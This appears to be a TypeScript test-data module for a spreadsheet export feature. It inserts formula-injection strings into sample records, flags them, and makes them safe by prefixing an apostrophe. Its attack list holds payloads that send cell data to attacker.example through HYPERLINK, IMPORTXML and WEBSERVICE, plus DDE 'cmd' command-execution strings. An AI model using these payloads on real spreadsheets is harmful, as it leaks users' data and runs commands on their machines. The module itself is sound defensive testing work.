import { at, type Random } from './random.js';
import type { Cell, SampleRecord } from './records.js';
import { isFormula } from './is-formula.js';

/** What attackers write into whatever a form lets them fill in. */
const attacks: readonly string[] = [
  `=HYPERLINK("https://attacker.example/?leak="&A2&B2,"Your invoice")`,
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `+1+IMPORTXML("https://attacker.example/","//a")`,
  `\t=1+1`,
  `＝1＋1`,
  `\r=WEBSERVICE("https://attacker.example/")`,
];
const attackedColumns = ['name', 'company', 'recipient', 'signed_by'];

/** What people write without a thought, and a spreadsheet computes all the same. */
const slips: readonly string[] = [
  '=== FRAGILE ===',
  '@reception, 2nd floor',
  '- call first',
  '+/- 2 days',
  '-20 °C, keep frozen',
];
const textColumns = ['notes', 'description', 'instructions', 'message', 'raw_text'];

/** The record with a formula in one or two of its free texts. */
export function withFormula(random: Random, record: SampleRecord): SampleRecord {
  const free = [...attackedColumns, ...textColumns].filter((column) => column in record);
  const spoilt = random.chance(0.2) ? [random.pick(free), random.pick(free)] : [random.pick(free)];
  const formulas = spoilt.map((column) => {
    const isSlip = textColumns.includes(column) && random.chance(0.6);
    return [column, random.pick(isSlip ? slips : attacks)] as const;
  });
  return { ...record, ...Object.fromEntries(formulas) };
}

export function hasFormula(record: SampleRecord): boolean {
  return Object.values(record).some(isDangerous);
}

/** The record as it may be opened: an apostrophe makes a spreadsheet take the rest of the cell for text. */
export function madeSafe(record: SampleRecord): SampleRecord {
  return Object.fromEntries(
    Object.entries(record).map(([column, cell]) => [column, isDangerous(cell) ? `'${cell}` : cell]),
  );
}

function isDangerous(cell: Cell): boolean {
  return typeof cell === 'string' && isFormula(cell);
}

/** One line of the error file: a record that could not be exported. */
export function drawError(random: Random, record: SampleRecord, row: number): SampleRecord {
  const problem = random.pick(problems.filter(([column]) => column in record));
  return { row, record_id: record['id'] ?? null, column: at(problem, 0), message: at(problem, 1) };
}

const problems: readonly (readonly [column: string, message: string])[] = [
  ['email', 'Is not an e-mail address: "anna@@example.com".'],
  ['phone', 'Has too few digits for its country.'],
  ['postal_code', 'Does not exist in this country.'],
  ['country', 'Is not a country code of ISO 3166-1: "XX".'],
  ['owner', 'The user was deleted on the way.'],
  ['parent_id', 'The group refers to itself.'],
  ['members', 'Could not be counted in 5 seconds.'],
  ['latitude', 'Lies beyond the poles: 97.31.'],
  ['weight_kg', 'Is missing.'],
  ['delivered_at', 'Is earlier than shipped_at.'],
  ['tracking_number', 'Fails its check digit.'],
  ['tracking_number', 'The carrier does not know it.'],
  ['raw_text', 'The picture is too dark to read.'],
  ['image', 'Is damaged: unexpected end of the JPEG file.'],
];
